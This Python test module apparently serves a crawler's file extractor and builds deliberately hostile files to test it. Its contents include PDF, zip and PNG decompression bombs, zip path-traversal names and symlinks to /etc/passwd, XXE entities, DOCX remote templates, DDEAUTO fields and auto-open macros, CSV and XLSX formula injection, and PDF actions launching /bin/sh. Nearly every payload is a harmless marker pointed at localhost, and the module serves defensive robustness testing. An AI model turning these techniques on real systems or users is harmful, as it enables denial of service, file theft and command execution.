"""Bad manners in files: each maker gives the bytes of one that harms whoever opens it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import lru_cache
from random import Random

from tests.crawler.extract import hostile_files as known
from tests.crawler.extract import tiny_pdfs
from tests.hostile.content_ways import PLAN_HTML, PLAN_LINES
from tests.hostile.server import PREPARED, Wire, way

MAKERS: dict[str, Callable[[], bytes]] = {}
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PARAGRAPHS = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in PLAN_LINES)


@way
def file(
    wire: Wire,
    make: str,
    *,
    kind: str = "application/pdf",
    name: str = "",
    cut: int = 0,
    headers: list[list[str]] | None = None,
) -> None:
    """What a maker made, under any kind and name; the last ``cut`` bytes are left out."""
    body = made(make)
    more = [(key, value) for key, value in headers or []]
    if name:
        more.append(("Content-Disposition", f'attachment; filename="{name}"'))
    wire.answer(body[: len(body) - cut], kind, headers=more)


@lru_cache(maxsize=4)
def made(name: str) -> bytes:
    """The bytes of a file, made once."""
    return MAKERS[name]()


PREPARED["file"] = lambda make, **_: made(make)


def maker(function: Callable[[], bytes]) -> Callable[[], bytes]:
    """Make a maker known to the catalogue under its own name."""
    MAKERS[function.__name__] = function
    return function


for _maker in (
    known.zip_bomb,
    known.lying_zip,
    known.crowded_zip,
    known.swollen_docx,
    known.laughing_docx,
    known.deep_docx,
    known.wide_xlsx,
    known.long_xlsx,
    known.repeating_ods,
    known.laughing_odt,
    known.huge_png,
    known.braces_rtf,
    known.linked_rtf,
    known.broken_doc,
    known.locked_package,
):
    maker(_maker)


# --- PDF --------------------------------------------------------------------------------------


def _pdf_of(pages: bytes, *more: bytes, catalogue: bytes = b"") -> bytes:
    return tiny_pdfs.assemble([b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue, pages, *more])


def _zeros(megabytes: int) -> bytes:
    """So many megabytes of spaces, packed."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    return b"".join([*(packer.compress(block) for _ in range(megabytes)), packer.flush()])


@maker
def plan_pdf() -> bytes:
    """An honest plan."""
    return tiny_pdfs.pdf(PLAN_LINES)


@maker
def pdf_that_acts() -> bytes:
    """The plan, with actions that run, launch, send and fetch when it is opened."""
    return tiny_pdfs.pdf(
        PLAN_LINES,
        extra=b"/OpenAction<</S/JavaScript/JS(oitAttack\\(\\))/Next<</S/Launch/F(/bin/sh)"
        b"/Next<</S/URI/URI(http://127.0.0.1/oitAttack)/Next<</S/SubmitForm/F(http://127.0.0.1/)>>>>>>>>"
        b"/AA<</WC<</S/JavaScript/JS(oitAttack\\(\\))>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(oitAttack\\(\\))>>]>>>>",
    )


@maker
def pdf_with_titles() -> bytes:
    """The plan, with attacks as title, author and bookmarks."""
    title = b"<script>oitAttack\\(\\)</script> =oitAttack\\(1\\) \\033[2J"
    body = tiny_pdfs.pdf(
        PLAN_LINES,
        extra=b"/Outlines<</First 100 0 R/Last 100 0 R/Count 1>>",
        trailer=b"/Info<</Title(%s)/Author(%s)/CreationDate(D:99999999999999)>>" % (title, title),
    )
    return body.replace(b"xref\n", b"100 0 obj\n<</Title(%s)/Dest[7 0 R/Fit]>>\nendobj\nxref\n" % title, 1)


@maker
def pdf_bookmarks_in_a_ring() -> bytes:
    """The plan, with bookmarks that follow each other in a ring."""
    body = tiny_pdfs.pdf(PLAN_LINES, extra=b"/Outlines 100 0 R")
    ring = (
        b"100 0 obj\n<</First 101 0 R/Last 102 0 R/Count 2>>\nendobj\n"
        b"101 0 obj\n<</Title(a)/Parent 100 0 R/Next 102 0 R/First 101 0 R>>\nendobj\n"
        b"102 0 obj\n<</Title(b)/Parent 100 0 R/Next 101 0 R/First 100 0 R>>\nendobj\n"
    )
    return body.replace(b"xref\n", ring + b"xref\n", 1).replace(b"startxref", b"startxref\n0\n%", 1)


@maker
def pdf_bomb() -> bytes:
    """A page whose drawing unpacks to 200 MB."""
    drawing = tiny_pdfs.stream(_zeros(200), b"/Filter/FlateDecode")
    return _pdf_of(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        drawing,
    )


@maker
def pdf_bomb_in_a_bomb() -> bytes:
    """A drawing that is packed three times: a few kilobytes for gigabytes."""
    twice = zlib.compress(zlib.compress(_zeros(300), 9), 9)
    return _pdf_of(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        tiny_pdfs.stream(twice, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"),
    )


@maker
def pdf_of_a_million_pages() -> bytes:
    """A tree that claims a million pages and has one."""
    return tiny_pdfs.pdf(PLAN_LINES).replace(b"/Count 1>>", b"/Count 1000000>>")


@maker
def pdf_of_many_empty_pages() -> bytes:
    """Nineteen thousand pages, each the same object."""
    kids = b"3 0 R " * 19_000
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return _pdf_of(b"<</Type/Pages/Kids[%s]/Count 19000>>" % kids, page)


@maker
def pdf_tree_of_itself() -> bytes:
    """A page tree that is its own child."""
    return tiny_pdfs.endless_page_tree()


@maker
def pdf_drawing_draws_itself() -> bytes:
    """A form that draws itself ten times."""
    form = tiny_pdfs.stream(
        b"/F Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>"
    )
    return _pdf_of(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</XObject<</F 4 0 R>>>>>>",
        form,
        tiny_pdfs.stream(b"/F Do"),
    )


@maker
def pdf_object_deep() -> bytes:
    """A catalogue entry of 200,000 arrays in each other."""
    return tiny_pdfs.pdf(PLAN_LINES, extra=b"/Deep " + b"[" * 200_000 + b"]" * 200_000)


@maker
def pdf_lengths_in_a_ring() -> bytes:
    """Streams whose lengths are told by each other."""
    return _pdf_of(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length 5 0 R>>\nstream\nBT ET\nendstream",
        b"<</Length 4 0 R>>\nstream\nBT ET\nendstream",
    )


@maker
def pdf_tables_in_a_ring() -> bytes:
    """A table of objects that names itself as the one before."""
    body = tiny_pdfs.pdf(PLAN_LINES)
    at = body.rindex(b"xref\n0")
    return body.replace(b"/Root 1 0 R", b"/Prev %d/Root 1 0 R" % at)


@maker
def pdf_locked() -> bytes:
    """A file whose password nobody knows."""
    return tiny_pdfs.locked()


@maker
def pdf_of_no_pages() -> bytes:
    """A tree without a page."""
    return _pdf_of(b"<</Type/Pages/Kids[]/Count 0>>")


@maker
def pdf_as_large_as_a_country() -> bytes:
    """The plan on a page of ten million points a side, with a picture over it."""
    return tiny_pdfs.pdf(PLAN_LINES, pictures=True).replace(b"[0 0 595 842]", b"[0 0 9999999 9999999]")


@maker
def scan_as_large_as_a_country() -> bytes:
    """A scan without text on such a page, which a reader of scans would have to draw."""
    return tiny_pdfs.pdf((), pictures=True).replace(b"[0 0 595 842]", b"[-9999999 -9999999 1e30 9999999]")


@maker
def pdf_of_ten_million_letters() -> bytes:
    """One page of ten million letters."""
    shown = b"<" + "แผนดำเนินงาน".encode("utf-16-be").hex().encode() + b"> Tj "
    packed = zlib.compress(b"BT /F1 1 Tf " + shown * 850_000 + b"ET", 9)
    body = tiny_pdfs.pdf(PLAN_LINES)
    return body.replace(
        b"xref\n",
        b"50 0 obj\n%s\nendobj\nxref\n" % tiny_pdfs.stream(packed, b"/Filter/FlateDecode"),
        1,
    ).replace(b"/Contents 8 0 R", b"/Contents[8 0 R 50 0 R]")


@maker
def pdf_and_page_in_one() -> bytes:
    """A PDF that is a web page too."""
    page = f"<html><body><script>oitAttack()</script><h1>{PLAN_LINES[0]}</h1></body></html>".encode()
    return page + b"\n" + tiny_pdfs.pdf(PLAN_LINES)


@maker
def pdf_and_zip_in_one() -> bytes:
    """A PDF with a zip at its end."""
    return tiny_pdfs.pdf(PLAN_LINES) + _zip({"oitAttack.exe": b"MZ"})


@maker
def pdf_only_by_name() -> bytes:
    """The mark of a PDF, and plain words with NUL bytes."""
    return b"%PDF-1.7\n" + "\0".join(PLAN_LINES).encode()


@maker
def pdf_of_a_fax() -> bytes:
    """A picture of 60,000 by 60,000 points in fifty bytes."""
    picture = tiny_pdfs.stream(
        b"\0" * 50,
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1"
        b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>",
    )
    return _pdf_of(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R"
        b"/Resources<</XObject<</Im 4 0 R>>>>>>",
        picture,
        tiny_pdfs.stream(b"q 595 0 0 842 0 0 cm /Im Do Q"),
    )


# --- zip and what is one ----------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    return known.zipped(dict(members))


@maker
def zip_of_paths() -> bytes:
    """The plan, among members whose names would lead out of any folder."""
    names = [
        "../../../../../../tmp/oitAttack.txt",
        "/tmp/oitAttack.txt",
        "..\\..\\oitAttack.txt",
        "C:\\Windows\\oitAttack.txt",
        "\\\\127.0.0.1\\share\\oitAttack.txt",
        "CON.txt",
        "aux",
        "oitAttack.txt:stream",
        "oit\0Attack.txt",
        "\u202egnp.oitAttack",
        "oitAttack.txt. . .",
        "~/.bashrc",
        "a" * 5_000,
        "\x1b[2J.txt",
    ]
    return _zip({"plan.pdf": plan_pdf(), **dict.fromkeys(names, b"oitAttack")})


@maker
def zip_of_links() -> bytes:
    """The plan, and a member that is a symbolic link to a file of this machine."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr("plan.pdf", plan_pdf())
        link = zipfile.ZipInfo("link.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return into.getvalue()


@maker
def zip_in_zip_in_zip() -> bytes:
    """Six zips in each other, sixteen in each, as 42.zip has them."""
    body = zlib.compress(b"")
    inner = _zip({f"{n}.txt": bytes(1 << 20) for n in range(4)}) + body
    for _ in range(6):
        inner = _zip({f"{n}.zip": inner for n in range(16)})
    return inner


@maker
def zip_overlapping() -> bytes:
    """A thousand names for one and the same packed member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bytes(8 << 20)
    packed = packer.compress(raw) + packer.flush()
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, zlib.crc32(raw), len(packed), len(raw))
    local = b"PK\x03\x04" + fields + struct.pack("<HH", 5, 0) + b"0.txt" + packed
    listed = b"".join(
        b"PK\x01\x02\x14\0" + fields + struct.pack("<HHHHHII", 8, 0, 0, 0, 0, 0, 0) + b"%04d.txt" % n
        for n in range(1000)
    )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1000, 1000, len(listed), len(local), 0)
    return local + listed + end


@maker
def zip_that_contains_itself() -> bytes:
    """A directory whose member begins where the zip begins and is the zip."""
    body = _zip({"plan.pdf": plan_pdf()})
    whole = body.replace(b"plan.pdf", b"self.zip")
    return body + whole


@maker
def zip64_that_lies() -> bytes:
    """The plan, with sizes of sixteen exabytes in the 64-bit fields."""
    body = _zip({"plan.pdf": plan_pdf()})
    at = body.index(b"PK\x01\x02")
    size = struct.pack("<II", 0xFFFF_FFFF, 0xFFFF_FFFF)
    central = (
        body[at : at + 20] + size + body[at + 28 : at + 30] + struct.pack("<H", 20) + body[at + 32 : at + 46]
    )
    extra = struct.pack("<HHQQ", 1, 16, 1 << 63, 1 << 63)
    listed = central + b"plan.pdf" + extra
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), at, 0)
    return body[:at] + listed + end


@maker
def zip_locked() -> bytes:
    """A member that asks for a password."""
    body = bytearray(_zip({"plan.pdf": plan_pdf()}))
    body[6] |= 1
    body[body.index(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


@maker
def zip_of_same_names() -> bytes:
    """Two thousand members under the same name."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for n in range(2_000):
            archive.fp.write(b"") if archive.fp else None
            archive.NameToInfo.clear()
            archive.writestr(zipfile.ZipInfo("plan.txt"), f"{n}".encode())
    return into.getvalue()


@maker
def zip_of_hostile_members() -> bytes:
    """Every other kind of file that harms, in one zip."""
    return _zip(
        {
            "a.docx": known.laughing_docx(),
            "b.xlsx": known.wide_xlsx(),
            "c.rtf": known.braces_rtf(10_000),
            "d.png": known.huge_png(),
            "e.pdf": tiny_pdfs.endless_page_tree(),
            "f.doc": known.broken_doc(),
            "g.zip": known.zip_bomb(20),
        }
    )


# --- Office -----------------------------------------------------------------------------------


def _docx(members: dict[str, str], document: str = "", relations: str = "") -> bytes:
    """A .docx of the plan with more parts and relations."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    if "word/vbaProject.bin" in members:
        kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = known.GOOD_DOCX_TYPES.format(
        overrides=f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
    )
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    to_document = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
    return known.zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": f"{head}{to_document}</Relationships>",
            "word/document.xml": document
            or f"<w:document {_W} {_R}><w:body>{_PARAGRAPHS}</w:body></w:document>",
            "word/_rels/document.xml.rels": f"{head}{relations}</Relationships>",
            **members,
        }
    )


@maker
def docx_of_entities() -> bytes:
    """The plan, with a file of this machine and an address as entities."""
    entities = '<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://127.0.0.1/x.dtd"> %p;'
    doctype = f"<!DOCTYPE x [{entities}]>"
    text = "<w:p><w:r><w:t>&f;</w:t></w:r></w:p>"
    return _docx(
        {},
        f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{_PARAGRAPHS}{text}</w:body></w:document>',
    )


@maker
def docx_that_fetches() -> bytes:
    """The plan, with template, pictures and parts on another machine, and links that run."""
    external = "".join(
        f'<Relationship Id="e{n}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(
            [
                ("attachedTemplate", "http://127.0.0.1/oitAttack.dotm"),
                ("image", "file://127.0.0.1/share/oitAttack.png"),
                ("oleObject", "mhtml:http://127.0.0.1/x!x-usc:http://127.0.0.1/"),
                ("hyperlink", "javascript:oitAttack()"),
                ("subDocument", "file:///etc/passwd"),
            ]
        )
    )
    return _docx({}, relations=external)


@maker
def docx_with_macros() -> bytes:
    """The plan, with a macro that runs when it is opened."""
    return _docx({"word/vbaProject.bin": "Sub AutoOpen()\noitAttack\nEnd Sub"})


@maker
def docx_of_same_parts() -> bytes:
    """Two documents under one name in one file, of which one is the plan."""
    into = io.BytesIO(_docx({}))
    with zipfile.ZipFile(into, "a") as archive:
        archive.NameToInfo.clear()
        archive.writestr(
            "word/document.xml",
            f"<w:document {_W}><w:body><w:p><w:r><w:t>oitAttack</w:t></w:r></w:p></w:body></w:document>",
        )
    return into.getvalue()


@maker
def docx_of_fields() -> bytes:
    """The plan, between fields that run commands and include files."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows oitAttack'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"><w:r><w:t>=oitAttack(1)</w:t></w:r></w:fldSimple></w:p>'
    )
    body = f"{_PARAGRAPHS}{field * 500}"
    return _docx({}, f"<w:document {_W}><w:body>{body}</w:body></w:document>")


def _xlsx(sheet: str, *, name: str = "แผน", more: dict[str, str] | None = None) -> bytes:
    body = io.BytesIO(known.xlsx_of(f"<worksheet {_S}>{sheet}</worksheet>"))
    with zipfile.ZipFile(body) as archive:
        members: dict[str, str | bytes] = {one: archive.read(one) for one in archive.namelist()}
    book = members["xl/workbook.xml"]
    assert isinstance(book, bytes)
    members["xl/workbook.xml"] = book.decode().replace("แผน", name)
    return known.zipped({**members, **(more or {})})


def _row(number: int, *cells: str) -> str:
    told = "".join(
        f'<c r="{"ABCDEFGH"[n]}{number}" t="inlineStr"><is><t>{cell}</t></is></c>'
        for n, cell in enumerate(cells)
    )
    return f'<row r="{number}">{told}</row>'


_PLAN_ROWS = "".join(_row(n, line) for n, line in enumerate(PLAN_LINES, 1))


@maker
def xlsx_of_formulas() -> bytes:
    """The plan, with cells that are formulas, links that run, and a sheet named as a formula."""
    formulas = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><f>{formula}</f><v>=oitAttack({n})</v></c></row>'
        for n, formula in enumerate(
            [
                "WEBSERVICE(&quot;http://127.0.0.1/&quot;)",
                "cmd|'/C calc'!A0",
                "HYPERLINK(&quot;javascript:oitAttack()&quot;)",
            ],
            20,
        )
    )
    return _xlsx(f"<sheetData>{_PLAN_ROWS}{formulas}</sheetData>", name="=oitAttack()&lt;b&gt;")


@maker
def xlsx_of_shared_strings() -> bytes:
    """Ten thousand cells that all show one text of a megabyte."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 300))
    text = "แผน " * 250_000
    strings = f'<sst {_S} count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    relations = (
        f'{head}<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return _xlsx(
        f"<sheetData>{cells}</sheetData>",
        more={"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": relations},
    )


@maker
def xlsx_of_many_strings() -> bytes:
    """A list of texts that unpacks to 150 MB, of which no cell shows one."""
    strings = f"<sst {_S}>" + "<si><t>ก</t></si>" * 8_000_000 + "</sst>"
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    relations = (
        f'{head}<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return _xlsx(
        f"<sheetData>{_PLAN_ROWS}</sheetData>",
        more={"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": relations},
    )


@maker
def xlsx_of_laughs() -> bytes:
    """Entities within entities in a sheet."""
    rows = f"<sheetData>{_row(1, '&j;')}</sheetData>"
    return known.xlsx_of(f'<?xml version="1.0"?>{known.LAUGHS}<worksheet {_S}>{rows}</worksheet>')


@maker
def pptx_deep() -> bytes:
    """Groups of shapes 3,000 deep on one slide."""
    spaces = (
        'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    )
    groups = "<p:grpSp>" * 3_000 + "</p:grpSp>" * 3_000
    return known.zipped(
        {
            "[Content_Types].xml": known.GOOD_DOCX_TYPES.format(overrides=""),
            "ppt/presentation.xml": f"<p:presentation {spaces}/>",
            "ppt/slides/slide1.xml": f"<p:sld {spaces}><p:cSld><p:spTree>{groups}</p:spTree></p:cSld>",
        }
    )


@maker
def odt_of_spaces() -> bytes:
    """The plan, and a paragraph of two thousand million spaces told by their number."""
    lines = "".join(f"<text:p>{line}</text:p>" for line in PLAN_LINES)
    return known.odt_of(f'{lines}<text:p>x<text:s text:c="2000000000"/>y</text:p>')


@maker
def doc_in_a_ring() -> bytes:
    """An old Word file whose sectors follow each other in a ring."""
    body = bytearray(known.locked_package())
    body[512:520] = struct.pack("<II", 1, 0)
    return bytes(body).replace(
        "EncryptedPackage".encode("utf-16-le"), "WordDocument\0\0\0\0".encode("utf-16-le")
    )


@maker
def doc_of_false_lengths() -> bytes:
    """An old Word file whose directory claims streams of two gigabytes."""
    body = bytearray(known.broken_doc())
    body[44:48] = struct.pack("<I", 0x7FFF_FFFF)
    body[30:34] = struct.pack("<HH", 31, 31)
    return bytes(body)


@maker
def rtf_of_false_binary() -> bytes:
    """The plan in Rich Text, with binary runs that claim a thousand million bytes."""
    text = "".join(f"\\u{ord(c)}?" if ord(c) > 127 else c for c in "\\par ".join(PLAN_LINES)).replace(
        "\\u92?par", "\\par"
    )
    return (
        b"{\\rtf1\\ansi "
        + text.encode()
        + b"\\par {\\object\\objdata 0105}"
        + b"{\\pict\\bin999999999 }" * 3
        + b"}"
    )


@maker
def rtf_of_hex_lines() -> bytes:
    """Lines of digits just too short for a picture: a pattern that looks for one tries every split."""
    return b"{\\rtf1\\ansi " + (b"a" * 239 + b" ") * 12_000 + b"}"


@maker
def rtf_of_long_words() -> bytes:
    """Control words and numbers that never end."""
    return (
        b"{\\rtf1\\ansi \\" + b"a" * 2_000_000 + b" \\u" + b"9" * 500_000 + b"? \\'" + b"\\'" * 300_000 + b"}"
    )


# --- tables, pictures, programs, nothing ------------------------------------------------------


@maker
def csv_of_one_line() -> bytes:
    """A table of one line of ten million cells."""
    return (PLAN_LINES[0] + "\n").encode() + b"a,b,c\n" + b'"' + b"a,," * 3_000_000


@maker
def csv_of_formulas() -> bytes:
    """The plan as a table whose cells are formulas and escapes."""
    lines = [f"{line},=oitAttack(1),@oitAttack" for line in PLAN_LINES]
    return "\r\n".join([*lines, "=cmd|' /C oitAttack'!A0,\x1b[2J,+1"]).encode("utf-8-sig")


@maker
def text_of_patterns() -> bytes:
    """A text file of the plan, and everything that patterns could stumble over."""
    evil = [
        "1 " * 3_000,
        "O1" * 3_000,
        "ม.ค. - " * 800,
        "((" * 3_000,
        "2566-" * 1_000,
        "." * 6_000,
        "www." * 1_500,
        "a@a." * 1_500,
        "ลงชื่อ (" * 800,
        "เทศบาลตำบล" * 600,
    ]
    return "\n".join([*PLAN_LINES, *evil]).encode()


@maker
def png_bomb() -> bytes:
    """A picture of 30,000 by 30,000 points that is well formed, in a megabyte."""
    packer = zlib.compressobj(9)
    row = bytes(30_000 // 8 + 1)
    data = b"".join([*(packer.compress(row * 100) for _ in range(300)), packer.flush()])
    return _png(struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0), data)


@maker
def png_of_no_size() -> bytes:
    """A picture without width."""
    return _png(struct.pack(">IIBBBBB", 0, 0, 8, 2, 0, 0, 0), zlib.compress(b""))


@maker
def png_like_a_thread() -> bytes:
    """A picture one point wide and 100,000 high."""
    return _png(struct.pack(">IIBBBBB", 1, 100_000, 8, 0, 0, 0, 0), zlib.compress(bytes(200_000)))


@maker
def png_of_words() -> bytes:
    """A picture whose texts unpack to 200 MB."""
    bomb = b"zTXt" + b"oitAttack\0\0" + _zeros(200)
    head = _png(struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0), zlib.compress(bytes(72)))
    chunk = struct.pack(">I", len(bomb) - 4) + bomb + struct.pack(">I", zlib.crc32(bomb))
    return head[:33] + chunk + head[33:]


def _png(header: bytes, data: bytes) -> bytes:
    chunks = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in chunks
    )


@maker
def tiff_in_a_ring() -> bytes:
    """A picture whose directory names itself as the next."""
    entry = struct.pack("<HHII", 256, 4, 1, 100)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + entry + struct.pack("<I", 8)


@maker
def gif_of_a_million_frames() -> bytes:
    """A film of a million pictures of one point."""
    frame = b"\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 1_000_000 + b";"


@maker
def jpeg_cut_off() -> bytes:
    """The beginning of a photograph of 65,500 by 65,500 points."""
    frame = (
        b"\xff\xc0\0\x11\x08" + struct.pack(">HH", 65_500, 65_500) + b"\x03\x01\x22\0\x02\x11\x01\x03\x11\x01"
    )
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + frame + b"\xff\xda\0\x0c"


@maker
def svg_of_laughs() -> bytes:
    """A drawing of entities within entities, scripts and pictures of other machines."""
    return (
        f'<?xml version="1.0"?>{known.LAUGHS}<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" onload="oitAttack()"><text>&j;</text>'
        '<image xlink:href="http://127.0.0.1/oitAttack"/><script>oitAttack()</script></svg>'
    ).encode()


@maker
def rar() -> bytes:
    """The mark of a RAR, and noise."""
    return b"Rar!\x1a\x07\x01\0" + bytes(range(256)) * 400


@maker
def seven_zip() -> bytes:
    """The mark of a 7z with a header of sixteen exabytes."""
    return b"7z\xbc\xaf\x27\x1c\0\x04" + b"\xff" * 200


@maker
def program() -> bytes:
    """A program of Windows."""
    return b"MZ\x90\0" + bytes(60) + b"PE\0\0" + b"oitAttack\0" * 5_000


@maker
def plan_page() -> bytes:
    """The plan as a web page."""
    return f"<!doctype html><title>แผน</title>{PLAN_HTML}<script>oitAttack()</script>".encode()


@maker
def nothing() -> bytes:
    """No byte at all."""
    return b""


@maker
def zeros() -> bytes:
    """Twenty-nine megabytes of zeros."""
    return bytes(29 << 20)


@maker
def noise() -> bytes:
    """Bytes of no meaning."""
    return Random(0).randbytes(200_000)


@maker
def pdf_then_zeros() -> bytes:
    """The plan, and 25 megabytes of zeros after its end."""
    return tiny_pdfs.pdf(PLAN_LINES) + bytes(25 << 20)
